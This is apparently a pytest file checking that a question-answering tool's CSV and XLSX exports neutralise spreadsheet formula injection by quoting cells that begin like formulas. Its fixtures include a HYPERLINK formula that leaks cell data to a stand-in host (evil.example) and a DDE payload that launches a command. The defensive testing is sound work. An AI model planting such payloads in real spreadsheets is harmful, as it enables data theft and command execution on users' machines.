"""Answer files opened in a spreadsheet: a question or a quoted passage that starts like a
formula (=, +, -, @, tab, CR) is a text cell with a quote before it, never a formula, in
`citeqa batch` output and in a job's results."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from api.app import create_app
from index.embedder import HashingEmbedder
from index.pipeline import IngestOptions, ingest
from qa.batch_io import safe_cell, write_answers
from tests.api.conftest import open_test_service, settings_for

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def _record(qid: str, question: str, answer: str, error: str = "") -> dict[str, Any]:
    record: dict[str, Any] = {"id": qid, "line": 1, "question": question}
    if error:
        record["error"] = error
        return record
    record["answer"] = {
        "answer": answer, "abstained": False, "confidence": 0.5,
        "citations": [{
            "n": 1, "title": "@SUM(1+1)", "section": None, "source": "a.txt", "page": None,
            "char_start": 0, "char_end": 5, "text": answer,
        }],
    }  # fmt: skip
    return record


RECORDS = [
    _record("=1+1", LINK, "+cmd|' /C calc'!A0 [1]"),
    _record("-2", "-3.5", "@SUM(A1:A9) [1]"),
    _record("\tq", "\rquestion", "", error="-x is not a question"),
]
# what each row's cells read back as (citations cell left out: it starts with "[1]")
EXPECTED = [
    ["'=1+1", "'" + LINK, "'+cmd|' /C calc'!A0 [1]"],
    ["-2", "-3.5", "'@SUM(A1:A9) [1]"],
    ["'\tq", "'\rquestion", ""],
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"), ("+1 ok", "'+1 ok"), ("-x", "'-x"), ("@A1", "'@A1"),
        ("\tx", "'\tx"), ("\rx", "'\rx"), ("-3.5", "-3.5"), ("+2", "+2"), ("-1e5", "-1e5"),
        ("-3.5+A1", "'-3.5+A1"), ("a=1", "a=1"), ("煤炭", "煤炭"), (0.5, 0.5), (True, True),
        ("", ""),
    ],
)  # fmt: skip
def test_cells_that_start_like_formulas_are_quoted(value: Any, cell: Any) -> None:
    assert safe_cell(value) == cell


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _check_xlsx(path: Path) -> None:
    sheet = load_workbook(path).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2))
    for row, expected in zip(rows, EXPECTED, strict=True):
        assert [c.value or "" for c in row[:3]] == expected
        assert [c.data_type for c in row[:3]] == ["s", "s", "s" if row[2].value else "inlineStr"]
        assert all(c.data_type != "f" for c in row)


def test_batch_csv_and_xlsx_hold_no_formulas(tmp_path: Path) -> None:
    write_answers(tmp_path / "a.csv", RECORDS)
    rows = _csv_rows((tmp_path / "a.csv").read_bytes())
    assert rows[0][:3] == ["id", "question", "answer"]
    assert [r[:3] for r in rows[1:]] == EXPECTED
    assert rows[1][5].startswith("[1] @SUM(1+1)")  # inside a cell, not at its start: kept
    assert rows[3][6] == "'-x is not a question"
    write_answers(tmp_path / "a.xlsx", RECORDS)
    _check_xlsx(tmp_path / "a.xlsx")


def test_job_results_hold_no_formulas(
    tmp_path: Path, wait_for_job: Callable[..., dict[str, Any]]
) -> None:
    docs = tmp_path / "formula-docs"
    docs.mkdir()
    line = '=HYPERLINK("http://evil.example","c")煤炭产业占工业比重下降到6.1%。'
    (docs / "f.txt").write_text(line + "\n", encoding="utf-8")
    folder = tmp_path / "fidx"
    ingest([docs], folder, HashingEmbedder(64), IngestOptions(), cross=HashingEmbedder(32))
    app = create_app(settings_for(tmp_path), service=open_test_service(folder))
    with TestClient(app) as client:
        made = client.post("/v1/jobs", json={"questions": [{"id": "@id", "question": LINK}]})
        assert made.status_code == 202, made.text
        job = wait_for_job(client, made.json()["id"])
        assert job["status"] == "succeeded", job
        got = client.get(f"/v1/jobs/{job['id']}/results?format=csv")
        rows = _csv_rows(got.content)
        assert rows[1][:2] == ["'@id", "'" + LINK]
        assert rows[1][2].startswith("'=HYPERLINK(") and "[1]" in rows[1][2]
        xlsx = client.get(f"/v1/jobs/{job['id']}/results?format=xlsx")
        (tmp_path / "r.xlsx").write_bytes(xlsx.content)
        sheet = load_workbook(tmp_path / "r.xlsx").worksheets[0]
        cells = list(sheet.iter_rows(min_row=2))[0]
        assert [c.value for c in cells[:2]] == ["'@id", "'" + LINK]
        assert cells[2].value.startswith("'=HYPERLINK(")
        assert all(c.data_type != "f" for c in cells)
